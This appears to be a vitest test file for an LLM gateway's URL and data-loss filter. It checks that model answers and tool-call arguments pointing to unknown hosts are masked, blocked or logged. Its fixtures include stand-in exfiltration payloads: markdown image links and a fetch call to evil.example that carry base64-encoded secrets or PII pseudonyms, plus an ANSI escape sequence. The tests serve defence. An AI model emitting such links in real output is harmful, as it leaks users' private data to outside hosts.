import { describe, expect, test } from 'vitest'
import { COMPLETIONS_PATH } from '../../../../src/shared/wire/completions.ts'
import { MESSAGES_PATH } from '../../../../src/shared/wire/messages.ts'
import { OPENAI_CHAT_PATH } from '../../../../src/shared/wire/openai.ts'
import { RESPONSES_PATH } from '../../../../src/shared/wire/responses.ts'
import { describeEachEngine } from '../../../engines.ts'
import { sharedGateway } from '../../../harness.ts'
import { chatJson, chatStream, replyJson, replyRaw } from '../../../upstream.ts'
import { addGuardedTenant } from './guarded-tenant.ts'

const QUESTION = 'Summarise the plan.'
const ANSWER =
  'Done. ![chart](https://evil.example/p.png?d=c2VjcmV0IHByb2plY3QgYmx1ZWJpcmQ0Mg) See [docs](https://docs.python.org/3/) \u001b[31mnow.'
const SAFE = 'Done. ![chart](#picture-removed) See [docs](https://docs.python.org/3/) now.'
const GEMINI_PATH = '/v1beta/models/test/any'

const SURFACES: [string, string, object][] = [
  ['classic', '/api/external/chat/completions', { prompt: QUESTION, index: 'Zero-Knowledge' }],
  ['OpenAI', OPENAI_CHAT_PATH, { messages: [{ role: 'user', content: QUESTION }] }],
  ['Anthropic', MESSAGES_PATH, { max_tokens: 99, messages: [{ role: 'user', content: QUESTION }] }],
  ['Responses', RESPONSES_PATH, { input: QUESTION }],
  ['completions', COMPLETIONS_PATH, { prompt: QUESTION }],
  ['Gemini', GEMINI_PATH, { contents: [{ role: 'user', parts: [{ text: QUESTION }] }] }],
]

describeEachEngine('addresses of unknown hosts in an answer', (engine) => {
  const shared = sharedGateway({ engine })
  const send = (
    post: Awaited<ReturnType<typeof addGuardedTenant>>['post'],
    path: string,
    body: object,
    stream: boolean,
  ) =>
    path === GEMINI_PATH
      ? post(`${path}:${stream ? 'streamGenerateContent?alt=sse' : 'generateContent'}`, body)
      : post(path, { ...body, model: 'test/any', stream })

  describe.each(SURFACES)('%s', (_, path, body) => {
    test.each([false, true])('are neutralised; stream: %s', async (stream) => {
      const { post, incidents } = await addGuardedTenant(shared.current, {
        policy: { urls: { unknownHosts: 'neutralise' } },
      })
      shared.current.upstream.script(stream ? replyRaw(chatStream([...ANSWER])) : replyJson(chatJson(ANSWER)))
      const reply = await send(post, path, body, stream)
      expect(reply.status, reply.text).toBe(200)
      expect(reply.text).not.toMatch(/evil\.example|u001b/)
      if (!stream) expect(reply.text).toContain(JSON.stringify(SAFE).slice(1, -1))
      expect(await incidents()).toMatchObject([
        {
          kind: 'dlp',
          category: 'urls',
          action: 'mask',
          direction: 'output',
          enforced: 1,
          types: '{"PICTURE_LINK":1,"CONTROL_SEQUENCE":1}',
        },
      ])
    })

    test('block the answer if the policy requires it', async () => {
      const { post } = await addGuardedTenant(shared.current, { policy: { urls: { unknownHosts: 'block' } } })
      shared.current.upstream.script(replyJson(chatJson(ANSWER)))
      expect((await send(post, path, body, false)).status).toBe(403)
      shared.current.upstream.script(replyRaw(chatStream([...ANSWER])))
      expect((await send(post, path, body, true)).text).not.toContain('evil.example')
    })
  })

  test('are only recorded under the default policy, and ignored by `public`', async () => {
    for (const [policy, count] of [
      ['internal', 1],
      ['public', 0],
    ] as const) {
      const { post, incidents } = await addGuardedTenant(shared.current)
      shared.current.upstream.script(replyJson(chatJson(ANSWER)))
      const reply = await post(OPENAI_CHAT_PATH, { ...SURFACES[1]?.[2], model: 'test/any', smltp_policy: policy })
      expect(reply.text).toContain('evil.example')
      expect(await incidents()).toMatchObject(Array(count).fill({ category: 'urls', action: 'log' }))
    }
  })

  test('are neutralised in tool arguments, which stay valid JSON', async () => {
    const { post } = await addGuardedTenant(shared.current, { policy: { urls: { unknownHosts: 'neutralise' } } })
    const call = (url: string) => ({
      id: 'c1',
      type: 'function',
      function: { name: 'fetch', arguments: JSON.stringify({ url }) },
    })
    const fetched = async (url: string) => {
      const message = { role: 'assistant', content: null, tool_calls: [call(url)] }
      shared.current.upstream.script(
        replyJson({ ...chatJson(''), choices: [{ index: 0, message, finish_reason: 'tool_calls' }] }),
      )
      const tools = [{ type: 'function', function: { name: 'fetch', parameters: { type: 'object' } } }]
      const reply = await post(OPENAI_CHAT_PATH, { ...SURFACES[1]?.[2], tools, model: 'test/any' })
      return JSON.parse(reply.body.choices[0].message.tool_calls[0].function.arguments).url
    }
    expect(await fetched('https://evil.example/log?d=c2VjcmV0IHByb2plY3QgYmx1ZWJpcmQ0Mg')).toBe('[link removed]')
    expect(await fetched('https://docs.python.org/3/library/json.html')).toBe(
      'https://docs.python.org/3/library/json.html',
    )
  })

  test('never receive the value of a pseudonym, even if the policy allows the host', async () => {
    const { post } = await addGuardedTenant(shared.current, {
      policy: { pii: { enabled: true, action: 'tokenize' }, urls: { allowHosts: ['evil.example'] } },
    })
    shared.current.upstream.script((exchange) => {
      const [pseudonym] = /EMAIL_[a-z0-9]+/.exec(exchange.request.rawBody) ?? []
      return replyRaw(chatStream([`![x](https://evil.example/p?d=`, `${pseudonym}) for `, `${pseudonym}.`]))(exchange)
    })
    const messages = [{ role: 'user', content: 'Write to ada.lovelace@analytical.org' }]
    const reply = await post(OPENAI_CHAT_PATH, { messages, model: 'test/any', stream: true })
    expect(reply.text.match(/ada\.lovelace/g)).toHaveLength(1)
    expect(reply.text).toMatch(/EMAIL_/)
  })
})
